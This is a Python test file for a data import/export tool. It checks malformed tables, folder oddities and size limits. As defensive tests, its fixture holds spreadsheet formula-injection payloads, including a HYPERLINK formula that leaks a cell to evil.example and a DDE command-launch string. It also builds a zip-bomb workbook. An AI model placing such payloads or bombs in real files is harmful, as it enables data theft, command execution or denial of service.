"""Nothing is silently changed on the way in or out: ragged rows, cleared fields, formulas in
exports, folders with odd entries, inflating workbooks, and messages that name the user's
own columns (issue: nothing lost, nothing stalls)."""

from __future__ import annotations

import os
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ecosystem import EmbeddedStore, ImportRefused, NodeKind, Store, export_store, import_paths
from ecosystem.io import tabular
from ecosystem.io.tabular import ReadLimits
from tests.conftest import DATA


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _refusal(store: Store, paths: list[Path]) -> ImportRefused:
    before = (store.nodes(), store.relationships())
    with pytest.raises(ImportRefused) as refused:
        import_paths(store, paths)
    assert (store.nodes(), store.relationships()) == before
    return refused.value


@pytest.mark.parametrize(("body", "row", "cells"), [
    ("acme,Acme, Inc.,US\nbeta,Beta,DE\n", 2, 4),   # an unquoted comma in the first row
    ("beta,Beta,DE\nacme,Acme, Inc.,US\n", 3, 4),   # ... in a later row
    ("beta,Beta,DE\ngamma,Gamma\n", 3, 2),          # a row one cell short
])
def test_ragged_rows_are_refused_with_their_row(store: Store, tmp_path: Path, body: str,
                                                row: int, cells: int) -> None:
    path = _write(tmp_path / "in" / "companies.csv", "id,name,country\n" + body)
    refusal = _refusal(store, [path])
    (problem,) = refusal.problems
    assert (problem.file, problem.row) == (str(path), row)
    assert f"has {cells} cells but the header has 3" in problem.message
    assert store.nodes() == []


def test_quoted_commas_and_line_breaks_are_kept(store: Store, tmp_path: Path) -> None:
    path = _write(tmp_path / "companies.csv",
                  'id,name,description\nacme,"Acme, Inc.","two\nlines"\n\nnull,NA,None\n')
    import_paths(store, [path])
    assert store.node(NodeKind.COMPANY, "acme").name == "Acme, Inc."
    assert store.node(NodeKind.COMPANY, "acme").properties["description"] == "two\nlines"
    assert store.node(NodeKind.COMPANY, "null").properties == {"name": "NA",
                                                               "description": "None"}


def test_a_value_under_no_header_is_refused(store: Store, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "companies"
    sheet.append(["id", "name"])
    sheet.append(["acme", "Acme", "stray"])
    book.save(tmp_path / "book.xlsx")
    (problem,) = _refusal(store, [tmp_path / "book.xlsx"]).problems
    assert (problem.row, problem.column, problem.value) == (2, "C", "stray")


def test_names_that_look_missing_stay_text_in_workbooks(store: Store, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "companies"
    for row in (["id", "name"], ["na", "NA"], ["none", "None"], ["null", "null"]):
        sheet.append(row)
    book.save(tmp_path / "book.xlsx")
    import_paths(store, [tmp_path / "book.xlsx"])
    assert [n.name for n in store.nodes(NodeKind.COMPANY)] == ["NA", "None", "null"]


_HOSTILE = {"acme": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "dde": "=cmd|' /C calc'!A0", "plus": "+1+1", "minus": "-2+3", "at": "@SUM(1)",
            "quoted": "'=already quoted"}


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> Store:
    rows = "".join(f'{i},"{v.replace(chr(34), chr(34) * 2)}",{i} desc\n'
                   for i, v in _HOSTILE.items())
    # the file itself escapes formulas, as an export would
    escaped = rows.replace(',"=', ",\"'=").replace(',"+', ",\"'+").replace(
        ',"-', ",\"'-").replace(',"@', ",\"'@").replace(",\"'=already", ",\"''=already")
    import_paths(store, [_write(tmp_path / "in" / "companies.csv",
                                "id,name,description\n" + escaped)])
    assert {n.id: n.name for n in store.nodes(NodeKind.COMPANY)} == _HOSTILE
    return store


def test_exports_hold_no_formula_and_import_back_unchanged(hostile: Store,
                                                          tmp_path: Path) -> None:
    before = hostile.nodes()
    export_store(hostile, tmp_path / "out.xlsx", format="xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [c for row in book["companies"].iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    names = [c.value for c in book["companies"]["B"][1:]]
    assert all(str(v).startswith("'") for v in names)  # every one of them starts a formula
    export_store(hostile, tmp_path / "csv")
    text = (tmp_path / "csv" / "companies.csv").read_text(encoding="utf-8")
    assert "\n" + 'acme,"\'=HYPERLINK(' in text.replace("\r\n", "\n")
    assert "plus,'+1+1," in text
    for exported in (tmp_path / "out.xlsx", tmp_path / "csv"):
        import_paths(hostile, [exported])  # back into the same store: nothing changes
        assert hostile.nodes() == before


def test_xlsx_export_refuses_what_a_sheet_cannot_hold(store: Store, tmp_path: Path) -> None:
    _write(tmp_path / "in" / "companies.csv", f"id,name\nlong,{'x' * 40_000}\n")
    import_paths(store, [tmp_path / "in"])
    with pytest.raises(ValueError, match="holds 40,000 characters; an Excel cell holds"):
        export_store(store, tmp_path / "out.xlsx", format="xlsx")
    assert not (tmp_path / "out.xlsx").exists()
    assert not list(tmp_path.glob(".*partial"))


def test_folders_are_walked_and_skipped_files_reported(store: Store, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    _write(folder / "companies.csv", "id,name\nacme,Acme\nbeta,Beta\n")
    _write(folder / "relationships" / "partners_with.csv", "source,target\nacme,beta\n")
    _write(folder / "README.md", "notes")
    _write(folder / "_notes.csv", "not,a,table\n")
    summary = import_paths(store, [folder])
    assert summary.relationships_written == {"partners_with": 1}
    assert set(summary.skipped) == {str(folder / "README.md"), str(folder / "_notes.csv")}
    assert "not a table" in summary.skipped[str(folder / "README.md")]


def test_folder_oddities_are_clear_problems(store: Store, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    _write(folder / "companies.csv", "id,name\nacme,Acme\n")
    os.symlink(tmp_path / "gone.csv", folder / "member_of.csv")
    os.symlink(folder, folder / "loop")
    _write(folder / "programmes.csv" / "programmes.csv", "id,name\ncncf,CNCF\n")
    problems = _refusal(store, [folder]).problems
    messages = {Path(p.file).name: p.message for p in problems}
    assert "does not exist" in messages["member_of.csv"]
    assert "loop" in messages["loop"]
    assert len(problems) == 2  # the folder named like a table was simply read


def test_an_inflating_workbook_is_refused_before_it_is_read(store: Store,
                                                            tmp_path: Path) -> None:
    small = tmp_path / "small.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "companies"
    book.active.append(["id", "name"])
    book.save(small)
    bomb = tmp_path / "bomb.xlsx"
    row = b"<row><c t='inlineStr'><is><t>" + b"a" * 60 + b"</t></is></c></row>"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                z.writestr(info, src.read(info.filename))
                continue
            head = src.read(info.filename).split(b"<sheetData")[0]
            with z.open(info.filename, "w", force_zip64=True) as sheet:
                sheet.write(head + b"<sheetData>")
                for _ in range(5_000):
                    sheet.write(row * 1_000)  # 400 MB unpacked, about 1 MB packed
                sheet.write(b"</sheetData></worksheet>")
    assert bomb.stat().st_size < 3 * 2**20
    started = time.process_time()
    (problem,) = _refusal(store, [bomb]).problems
    assert "unpack to" in problem.message and "ECOSYSTEM_MAX_UNPACKED_MB" in problem.fix
    assert time.process_time() - started < 30  # not a timing target: it was never parsed


def test_parquet_over_the_cell_limit_is_refused(store: Store, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    pd.DataFrame({"id": [f"c{i}" for i in range(100)], "name": ["x"] * 100}).to_parquet(
        tmp_path / "companies.parquet")
    monkeypatch.setattr(tabular, "LIMITS", ReadLimits(cells=150))
    (problem,) = _refusal(store, [tmp_path / "companies.parquet"]).problems
    assert "100 rows x 2 columns" in problem.message


def test_lf_landscape_errors_name_the_files_columns(store: Store, tmp_path: Path) -> None:
    folder = tmp_path / "lf"
    source = DATA.parent.parent / "ecosystem" / "demo_data"
    members = (source / "memberships.csv").read_text(encoding="utf-8").splitlines()[:3]
    header = members[0].split(",")
    bad = dict.fromkeys(header, "")
    bad.update(program="aousd", org_key="badco", org_name="Bad Co", tiers_seen="General",
               first_seen_month="20x4-04", seen_in_first_snapshot="1",
               last_seen_month="2026-06", present_at_head="1")
    _write(folder / "memberships.csv",
           "\n".join([*members, ",".join(bad[c] for c in header)]) + "\n")
    items = (source / "landscape_items.csv").read_text(encoding="utf-8").splitlines()[:3]
    _write(folder / "landscape_items.csv", "\n".join(items) + "\n")
    (problem,) = _refusal(store, [folder]).problems
    assert problem.row == 4 and problem.value == "20x4-04"
    assert "first_seen_month" in (problem.column or "")
    assert "'since'" not in str(problem)


def test_reimport_of_a_whole_export_keeps_every_value(tmp_path: Path) -> None:
    """An export re-imported with some cells emptied by hand loses nothing (an empty cell
    keeps the stored value); '#clear' is how a value is removed."""
    with EmbeddedStore(tmp_path / "a.db") as store:
        import_paths(store, [DATA / "small"])
        before = store.node(NodeKind.COMPANY, "voltra")
        export_store(store, tmp_path / "out")
        frame = pd.read_csv(tmp_path / "out" / "companies.csv", dtype=str,
                            keep_default_na=False)
        frame.loc[frame["id"] == "voltra", ["name", "country"]] = ""
        frame.loc[frame["id"] == "voltra", "description"] = "#clear"
        frame.to_csv(tmp_path / "out" / "companies.csv", index=False)
        import_paths(store, [tmp_path / "out"])
        after = store.node(NodeKind.COMPANY, "voltra")
        assert after.name == before.name
        assert after.properties.get("country") == before.properties.get("country")
        assert "description" not in after.properties
